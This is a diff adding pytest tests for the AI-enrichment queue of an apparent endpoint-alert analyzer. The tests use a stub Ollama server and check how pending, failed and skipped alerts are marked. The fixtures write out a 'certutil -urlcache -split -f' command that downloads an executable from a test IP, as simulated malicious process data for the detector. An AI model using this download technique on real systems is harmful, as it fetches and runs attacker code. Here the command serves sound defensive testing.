@@ -0,0 +1,85 @@
+"""The enrichment worker against a stub Ollama server, and alerts the full queue turns away."""
+import json
+import threading
+import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+from conftest import add_process
+
+import analyzer
+from enrichment import EnrichmentQueue
+
+CERTUTIL = r"C:\Windows\System32\certutil.exe"
+
+
+def load_downloads(db, *payloads):
+    for i, payload in enumerate(payloads):
+        add_process(db, f"WS-{i:04d}", 300 + i, 1, CERTUTIL, f"certutil -urlcache -split -f http://203.0.113.5/{payload} x.exe")
+
+
+@pytest.fixture
+def ollama(monkeypatch):
+    """Stub /api/generate: answers every prompt, except HTTP 500 for commands fetching fail.exe."""
+    prompts = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_POST(self):
+            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+            prompts.append(body)
+            if "fail.exe" in body["prompt"]:
+                self.send_response(500)
+                self.end_headers()
+                return
+            payload = json.dumps({"response": "Downloads a second-stage payload."}).encode()
+            self.send_response(200)
+            self.send_header("Content-Type", "application/json")
+            self.send_header("Content-Length", str(len(payload)))
+            self.end_headers()
+            self.wfile.write(payload)
+
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    monkeypatch.setattr(analyzer, "OLLAMA_HOST", f"http://127.0.0.1:{server.server_address[1]}")
+    yield prompts
+    server.shutdown()
+    server.server_close()
+
+
+def test_worker_writes_answers_and_failures(memory_db, make_analyzer, ollama):
+    load_downloads(memory_db, "a.exe", "fail.exe")
+    engine = make_analyzer(memory_db)
+    engine.alerts.advance(0)
+    engine.enrichment = EnrichmentQueue(engine.explain, memory_db.connect, workers=1, batch_size=10)
+    engine.enrichment.start()
+    try:
+        engine.process_events(engine.fetch_new_events(0))
+        deadline = time.time() + 10
+        while any(alert[7] == "pending" for alert in memory_db.alerts.values()) and time.time() < deadline:
+            time.sleep(0.05)
+    finally:
+        engine.enrichment.stop(timeout=2)
+
+    done, failed = sorted(memory_db.alerts.values(), key=lambda alert: "fail.exe" in alert[4])
+    assert done[7] == "done" and done[4].endswith("AI Analysis: Downloads a second-stage payload.")
+    assert failed[7] == "failed" and failed[4].endswith("AI Analysis: Unavailable (AI Error: 500)")
+    assert "Pending" not in done[4] + failed[4]
+    assert len(ollama) == 2 and "CertUtil Download" in ollama[0]["prompt"]
+    assert engine.enrichment.stats == {"submitted": 2, "rejected": 0, "done": 1, "failed": 1}
+
+
+def test_alert_turned_away_by_full_queue_is_marked_skipped(memory_db, make_analyzer):
+    load_downloads(memory_db, "a.exe", "b.exe")
+    engine = make_analyzer(memory_db)
+    engine.alerts.advance(0)
+    engine.enrichment = EnrichmentQueue(lambda cmd_line, rule_name: "ok", memory_db.connect, max_pending=1,
+                                        submit_timeout=0)  # workers not started: the second alert finds the queue full
+    engine.process_events(engine.fetch_new_events(0))
+
+    queued, skipped = (memory_db.alerts[alert_id] for alert_id in sorted(memory_db.alerts))
+    assert queued[7] == "pending" and queued[4].endswith("AI Analysis: Pending")
+    assert skipped[7] == "skipped" and skipped[4].endswith("AI Analysis: Skipped (enrichment queue full)")
+    assert skipped[4].startswith("certutil -urlcache")